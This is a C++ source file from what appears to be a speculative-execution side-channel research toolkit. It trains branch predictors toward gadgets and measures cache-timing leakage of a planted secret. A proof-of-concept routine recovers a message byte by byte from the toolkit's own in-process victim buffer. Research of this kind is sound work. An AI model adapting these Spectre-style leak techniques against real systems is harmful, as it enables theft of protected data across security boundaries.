#include "specwin/harness.hpp"
#include "specwin/cpuinfo.hpp"
#include "specwin/errors.hpp"
#include "specwin/timing.hpp"
#include "specwin/version.hpp"
#include "specwin/workloads.hpp"

#include <algorithm>
#include <array>
#include <cstring>
#include <memory>
#include <optional>
#include <random>

#include <sched.h>
#include <unistd.h>

namespace specwin {

ProbeMode probe_mode_for(GadgetKind kind) {
    return kind == GadgetKind::FlushGadget ? ProbeMode::Evicted : ProbeMode::Cached;
}

namespace {

void store_u64(uint8_t* at, uint64_t v) { std::memcpy(at, &v, sizeof(v)); }

// Offset of the pointer target used by the dereference-only gadgets when
// they run architecturally during training; anywhere inside the dummy page
// away from the chain pointer itself works.
constexpr uint64_t kDummyChaseOffset = 512;

// Pins to `cpu` for the object's lifetime (no-op for cpu < 0), restoring
// the thread's previous affinity mask afterwards.
class ScopedAffinity {
public:
    ScopedAffinity(int cpu, const CpuTopology& topo) {
        if (cpu < 0)
            return;
        if (sched_getaffinity(0, sizeof(saved_), &saved_) != 0)
            throw PinFailed("cannot read current affinity");
        pin_current_thread(cpu, topo);
        active_ = true;
    }
    ~ScopedAffinity() {
        if (active_)
            sched_setaffinity(0, sizeof(saved_), &saved_);
    }
    ScopedAffinity(const ScopedAffinity&) = delete;
    ScopedAffinity& operator=(const ScopedAffinity&) = delete;

private:
    cpu_set_t saved_{};
    bool active_ = false;
};

} // namespace

VictimArgs plant_training_values(GadgetKind kind, VictimBuffer& victim) {
    uint8_t* dummy = victim.data().dummy_page();
    uint8_t* dummy_probe = victim.data().dummy_probe();
    std::memset(dummy, 0, 4096);

    VictimArgs args;
    args.probe = reinterpret_cast<uint64_t>(dummy_probe);
    switch (kind) {
    case GadgetKind::LoadShiftLoad:
        args.data = reinterpret_cast<uint64_t>(dummy);
        args.index = kSecretIndex; // dummy[kSecretIndex] is 0 -> slot 0
        break;
    case GadgetKind::LoadOnce:
        args.data = 0; // offset 0 -> dummy probe slot 0
        break;
    case GadgetKind::MinimalLoad:
    case GadgetKind::StoreGadget:
    case GadgetKind::PrefetchGadget:
    case GadgetKind::FlushGadget:
        // chase stays inside the dummy page; the second access (load,
        // store, prefetch or flush) lands on dummy + kDummyChaseOffset
        store_u64(dummy, reinterpret_cast<uint64_t>(dummy) + kDummyChaseOffset);
        args.data = reinterpret_cast<uint64_t>(dummy);
        break;
    case GadgetKind::ComplexLoad:
        store_u64(dummy, 0); // index 0 -> dummy probe slot 0
        args.data = reinterpret_cast<uint64_t>(dummy);
        break;
    case GadgetKind::ThreeLoadMasked:
        store_u64(dummy, reinterpret_cast<uint64_t>(dummy) + 8);
        store_u64(dummy + 8, 0); // byte 0 -> dummy probe slot 0
        args.data = reinterpret_cast<uint64_t>(dummy);
        break;
    default:
        throw UnsupportedGadget("unknown gadget kind");
    }
    return args;
}

VictimArgs plant_secret(GadgetKind kind, VictimBuffer& victim,
                        const ProbeArray& probe, uint8_t secret) {
    uint8_t* value = victim.data().value_page();

    VictimArgs args;
    args.data = reinterpret_cast<uint64_t>(value);
    args.probe = reinterpret_cast<uint64_t>(probe.base());
    switch (kind) {
    case GadgetKind::LoadShiftLoad:
        // 32-bit load, so the three bytes above the secret must be zero or
        // the shifted index leaves the probe array
        value[kSecretIndex] = secret;
        value[kSecretIndex + 1] = 0;
        value[kSecretIndex + 2] = 0;
        value[kSecretIndex + 3] = 0;
        args.index = kSecretIndex;
        break;
    case GadgetKind::LoadOnce:
        args.data = uint64_t(secret) * ProbeArray::kStride; // direct slot offset
        break;
    case GadgetKind::MinimalLoad:
    case GadgetKind::StoreGadget:
    case GadgetKind::PrefetchGadget:
    case GadgetKind::FlushGadget:
        // the chased pointer itself names the slot
        store_u64(value, reinterpret_cast<uint64_t>(probe.slot(secret)));
        break;
    case GadgetKind::ComplexLoad:
        // gadget scales by 8; plant secret << 9 so slot = value * 8 / 4096
        // lands back on `secret`
        store_u64(value, uint64_t(secret) << 9);
        break;
    case GadgetKind::ThreeLoadMasked:
        store_u64(value, reinterpret_cast<uint64_t>(value) + 8);
        store_u64(value + 8, secret); // low byte carries the signal
        break;
    default:
        throw UnsupportedGadget("unknown gadget kind");
    }
    return args;
}

MachineMetadata collect_machine_metadata() {
    MachineMetadata m;
    const CpuIdentity id = identify_current_cpu();
    m.vendor = id.vendor;
    m.brand = id.brand;
    m.microarch = id.microarch;
    m.family = id.family;
    m.model = id.model;
    m.logical_cpus = static_cast<int>(sysconf(_SC_NPROCESSORS_ONLN));
    try {
        m.smt_enabled = detect_topology().smt_enabled;
    } catch (const TopologyUnavailable&) {
        m.smt_enabled = false;
    }
    return m;
}

namespace {

// Shared per-cell state: pinned thread, calibrated channel, built victim,
// running workload. Both the rate experiment and the byte-recovery loop
// race through this.
struct CellContext {
    ScopedAffinity pin;
    MachineMetadata machine;
    ChannelCalibration cal;
    VictimBuffer victim;
    ProbeArray probe;
    std::unique_ptr<WorkloadRunner> workload;

    CellContext(const VictimOptions& vopt, WorkloadKind wl_kind, int cpu,
                int sibling, uint64_t seed, const CpuTopology& topo)
        : pin(cpu, topo), machine(collect_machine_metadata()),
          cal(calibrate_channel(2048, seed)), victim(VictimBuffer::build(vopt)) {
        probe.touch_all();
        if (wl_kind != WorkloadKind::None) {
            if (cpu < 0)
                throw InvalidCpu("a sibling workload needs an explicit attacker cpu");
            if (sibling < 0) {
                auto s = topo.sibling_of(cpu);
                if (!s)
                    throw SmtDisabled("cpu " + std::to_string(cpu) +
                                      " has no second hardware thread");
                sibling = *s;
            }
            workload = start_workload(wl_kind, cpu, sibling, topo, seed);
            const auto lo = reinterpret_cast<uint64_t>(probe.base());
            if (workload->overlaps(lo, lo + ProbeArray::kSlots * ProbeArray::kStride))
                throw Error("workload tables alias the probe array");
        }
    }

    // One train-then-race round. Returns the observed slot list, or nullopt
    // when the thread migrated and the trial must be discarded.
    std::optional<std::vector<int>> race(const VictimArgs& train_args,
                                         const VictimArgs& real_args,
                                         uint64_t train_target, ProbeMode mode,
                                         int train_iterations, uint64_t probe_seed) {
        const int cpu_before = sched_getcpu();

        *victim.data().target_slot() = train_target;
        for (int i = 0; i < train_iterations; ++i)
            victim.run(train_args.data, train_args.probe, train_args.index);

        serialize_full(); // nothing from training may still be in flight

        *victim.data().target_slot() = victim.landing_pad_addr();
        if (mode == ProbeMode::Cached)
            probe.flush_all();
        else
            probe.preload_all();
        if (victim.options().fence == FenceMode::NoFence)
            flush_line(victim.data().target_slot()); // widen the resolve race
        memory_fence();

        victim.run(real_args.data, real_args.probe, real_args.index);

        auto observed = probe.probe(cal, mode, probe_seed);
        if (sched_getcpu() != cpu_before)
            return std::nullopt;
        return observed;
    }
};

} // namespace

ExperimentResult run_experiment(const ExperimentConfig& config,
                                const CpuTopology& topo) {
    if (config.trials < 1)
        throw Error("trials must be positive");
    if (config.train_iterations < 1)
        throw Error("train_iterations must be positive");

    VictimOptions vopt;
    vopt.gadget = config.gadget;
    vopt.fence = config.fence;
    vopt.spacer_nops = config.spacer_nops;
    vopt.spacer_kind = config.spacer_kind;

    CellContext ctx(vopt, config.workload, config.cpu, config.sibling,
                    config.seed, topo);

    ExperimentResult res;
    res.config = config;
    res.machine = ctx.machine;
    res.threshold = ctx.cal.threshold;
    res.toolkit_version = kToolkitVersion;

    const ProbeMode mode = probe_mode_for(config.gadget);
    const VictimArgs train_args = plant_training_values(config.gadget, ctx.victim);
    const uint64_t train_target = config.control ? ctx.victim.landing_pad_addr()
                                                 : ctx.victim.gadget_entry_addr();

    std::mt19937_64 rng(config.seed);
    for (int t = 0; t < config.trials; ++t) {
        const auto secret = static_cast<uint8_t>(rng());
        const VictimArgs real = plant_secret(config.gadget, ctx.victim, ctx.probe, secret);
        auto observed = ctx.race(train_args, real, train_target, mode,
                                 config.train_iterations, rng());
        if (!observed) {
            ++res.discarded;
            continue;
        }
        ++res.counted;
        if (std::find(observed->begin(), observed->end(), int(secret)) != observed->end())
            ++res.hits;
    }

    if (ctx.workload) {
        ctx.workload->stop_and_join();
        res.workload_iterations = ctx.workload->iterations();
    }
    return res;
}

PocResult run_poc(const PocConfig& config, const CpuTopology& topo) {
    if (config.message.empty())
        throw Error("poc message must not be empty");
    if (kSecretIndex + config.message.size() + 8 > 4096)
        throw Error("poc message does not fit the value page");
    if (config.trials_per_byte < 1)
        throw Error("trials_per_byte must be positive");

    // The pointer-chase gadget masks the loaded quadword to one byte, so the
    // message can be walked in place with a moving pointer.
    VictimOptions vopt;
    vopt.gadget = GadgetKind::ThreeLoadMasked;
    vopt.fence = config.fence;

    CellContext ctx(vopt, config.workload, config.cpu, config.sibling,
                    config.seed, topo);

    PocResult poc;
    poc.fence = config.fence;
    poc.workload = config.workload;
    poc.expected = config.message;
    poc.trials_per_byte = config.trials_per_byte;
    poc.machine = ctx.machine;

    const VictimArgs train_args =
        plant_training_values(GadgetKind::ThreeLoadMasked, ctx.victim);
    const uint64_t train_target = ctx.victim.gadget_entry_addr();

    uint8_t* value = ctx.victim.data().value_page();
    std::memcpy(value + kSecretIndex, config.message.data(), config.message.size());

    VictimArgs real;
    real.data = reinterpret_cast<uint64_t>(value);
    real.probe = reinterpret_cast<uint64_t>(ctx.probe.base());

    std::mt19937_64 rng(config.seed);
    for (size_t i = 0; i < config.message.size(); ++i) {
        // aim the chase pointer at message byte i
        store_u64(value, reinterpret_cast<uint64_t>(value) + kSecretIndex + i);

        std::array<int, 256> hist{};
        for (int t = 0; t < config.trials_per_byte; ++t) {
            auto observed = ctx.race(train_args, real, train_target,
                                     ProbeMode::Cached, config.train_iterations,
                                     rng());
            if (!observed)
                continue;
            for (int slot : *observed)
                ++hist[static_cast<size_t>(slot)];
        }

        // slot 0 is excluded: an all-zero read is indistinguishable from
        // no speculation at all
        int best = 0, best_count = 0;
        for (int s = 1; s < 256; ++s) {
            if (hist[static_cast<size_t>(s)] > best_count) {
                best = s;
                best_count = hist[static_cast<size_t>(s)];
            }
        }
        const char got = static_cast<char>(best);
        if (got == config.message[i])
            ++poc.correct_bytes;
        poc.recovered.push_back(best_count > 0 && got >= 0x20 && got < 0x7F ? got : '.');
    }

    if (ctx.workload)
        ctx.workload->stop_and_join();
    return poc;
}

} // namespace specwin
